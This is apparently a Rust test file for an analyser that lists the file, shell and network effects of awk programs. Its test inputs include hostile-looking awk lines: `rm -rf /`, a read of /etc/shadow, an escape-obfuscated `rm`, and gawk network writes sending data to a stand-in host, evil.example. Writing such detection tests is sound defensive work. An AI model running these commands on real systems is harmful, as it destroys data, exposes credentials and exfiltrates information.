use crate::Language;
use crate::language::tests::check;

fn awk(text: &str, expected: &[&str]) {
    check(Language::Awk, text, expected);
}

#[test]
fn ordinary_programs_do_nothing_outside() {
    for text in [
        "{print $1}",
        "{print $1, $NF}",
        "NR==1{print; exit}",
        "/error/ {count++} END {print count}",
        "{sum += $3} END {printf \"%.2f\\n\", sum/NR}",
        "BEGIN{FS=\",\"; OFS=\"\\t\"} {$1=$1; print}",
        "{print ($1 > 3 ? \"a\" : \"b\")}",
        "$1 > 100 || $2 < 3",
        "!seen[$0]++",
        "length($0) > 80 { print FILENAME \":\" FNR }",
        "{ for (i = NF; i > 0; i--) printf \"%s \", $i; print \"\" }",
        "{ gsub(/[ \\t]+/, \" \"); print toupper(substr($0, 1, 1)) }",
        "function max(a, b) { return a > b ? a : b } { print max($1, $2) }",
        "{ a[$1] = a[$1] \" \" $2 } END { for (k in a) print k, a[k] }",
        "{ print $1/2, $2 / $3 }",
        "/\\/path\\// && !/skip/ { print }",
        "{ print > \"/dev/stderr\" }",
        "{ while ((getline line) > 0) n++ }",
        "NR % 2 == 0",
        "{ print $1, \\\n  $2 }",
        "# system(\"x\")\n{ print \"system(1)\" }",
        "",
    ] {
        awk(text, &[]);
    }
}

#[test]
fn files_and_commands_are_seen() {
    awk("{ print > \"out.txt\" }", &["write /app/out.txt"]);
    awk("{ print $1 >> \"/tmp/log\" }", &["append /tmp/log"]);
    awk("{ printf(\"%s\", $1) > \"o\" }", &["write /app/o"]);
    awk("{ print > $1 \".txt\" }", &["write ?"]);
    awk("{ print > (\"out/\" $1) }", &["write /app/out/*"]);
    awk(
        "BEGIN { f = \"x.txt\" } { print > f }",
        &["write /app/x.txt"],
    );
    awk("{ print | \"sort -u\" }", &["shell sort -u"]);
    awk("BEGIN { system(\"rm -rf /\") }", &["shell rm -rf /"]);
    awk("{ system(\"echo \" $1) }", &["shell echo ……"]);
    awk("BEGIN { \"date\" | getline d; print d }", &["shell date"]);
    awk(
        "BEGIN { while ((\"ls \" \"-l\" | getline x) > 0) print x }",
        &["shell ls -l"],
    );
    awk(
        "BEGIN { cmd = \"id\"; cmd | getline; close(cmd) }",
        &["shell id"],
    );
    awk(
        "BEGIN { getline x < \"/etc/shadow\"; print x }",
        &["read /etc/shadow"],
    );
    awk(
        "BEGIN { while ((getline l < \"a.txt\") > 0) print l }",
        &["read /app/a.txt"],
    );
    awk(
        "{ print $0 |& \"/inet/tcp/0/evil.example/80\" }",
        &["shell /inet/tcp/0/evil.example/80"],
    );
    awk(
        "BEGIN { print \"x\" > \"/inet/tcp/0/evil.example/80\" }",
        &["connect send evil.example <- local"],
    );
    awk("{ undefined($1) }", &["gap call undefined"]);
    awk("@load \"filefuncs\"\nBEGIN { }", &["gap call @"]);
    awk(
        "@include \"lib.awk\"\n{ print }",
        &["run file /app/lib.awk", "gap unseen lib.awk"],
    );
}

#[test]
fn a_variable_with_two_values_is_not_known() {
    awk("BEGIN { f = \"a\" } { f = $1; print > f }", &["write ?"]);
    awk(
        "function g(f) { print > f } BEGIN { f = \"a\"; g(\"b\") }",
        &["write ?"],
    );
    awk("BEGIN { f = \"a\" } { getline f; print > f }", &["write ?"]);
    awk(
        "BEGIN { f = \"a\" } { sub(/a/, \"b\", f); print > f }",
        &["write ?"],
    );
}

#[test]
fn what_does_not_parse_is_a_gap() {
    awk("{ print \"a }", &["gap syntax awk: unterminated string"]);
    awk("/a", &["gap syntax awk: unterminated pattern"]);
    awk("BEGIN { system(\"\\162m x\") }", &["shell rm x"]);
    awk(
        "BEGIN { system(\"\\x72m x\") }",
        &["gap syntax awk: escaped character in a string"],
    );
    awk("{ print `date` }", &["gap syntax awk: odd character"]);
}
